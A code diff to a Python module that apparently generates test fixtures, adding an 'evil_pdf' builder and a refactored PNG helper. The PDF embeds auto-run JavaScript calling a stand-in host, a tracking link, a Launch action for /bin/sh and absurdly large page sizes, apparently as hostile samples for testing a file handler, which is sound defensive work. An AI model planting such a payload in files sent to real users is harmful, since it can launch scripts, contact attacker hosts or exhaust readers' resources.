@@ -98,12 +98,31 @@ def _assemble(objects: list[bytes]) -> bytes:
     return bytes(content)
 
 
-def png(width: int = 320, height: int = 200) -> bytes:
-    """A plain picture in one colour."""
-    rows = b"".join(b"\x00" + b"\x33\x66\xcc" * width for _ in range(height))
+def evil_pdf() -> bytes:
+    """Opens scripts and addresses when it is opened; its pages are far too long and far too wide."""
+    script = "/S /JavaScript /JS (app.launchURL\\('https://fremd.example/skript'\\); this.harmed = true;)"
+    objects = [
+        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << {script} >> /AA << /WC << {script} >> >> "
+        f"/Names << /JavaScript << /Names [(a) << {script} >>] >> >> >>".encode(),
+        b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R 7 0 R] /AA << /O << {script} >> >> >>".encode(),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 100000] >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100000 100000] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://fremd.example/verfolger) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) >> >>",
+    ]
+    return _assemble(objects)
 
+
+def chunked_png(width: int, height: int, packed: bytes) -> bytes:
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
+
+
+def png(width: int = 320, height: int = 200) -> bytes:
+    """A plain picture in one colour."""
+    rows = b"".join(b"\x00" + b"\x33\x66\xcc" * width for _ in range(height))
+    return chunked_png(width, height, zlib.compress(rows))
